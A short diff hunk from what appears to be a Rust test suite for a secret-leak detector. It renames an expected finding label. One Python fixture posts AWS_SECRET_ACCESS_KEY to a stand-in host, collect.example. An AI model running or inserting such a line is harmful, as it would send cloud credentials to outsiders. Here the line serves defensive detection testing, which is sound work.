@@ -101,7 +101,7 @@ fn python_own_keys_stay_quiet() {
     );
     py(
         "import os, requests\nrequests.post('https://collect.example/v1', json={'k': os.getenv('AWS_SECRET_ACCESS_KEY')})",
-        "foreign_key AWS_SECRET_ACCESS_KEY -> network_send collect.example",
+        "posted_key AWS_SECRET_ACCESS_KEY -> network_send collect.example",
     );
     py(
         "import os\nfrom openai import OpenAI\nc = OpenAI(api_key=os.environ['OPENAI_API_KEY'])\nr = c.chat.completions.create(model='x', messages=[])\nprint(r.choices[0].message.content)\nopen('out.md','w').write(r.choices[0].message.content)",
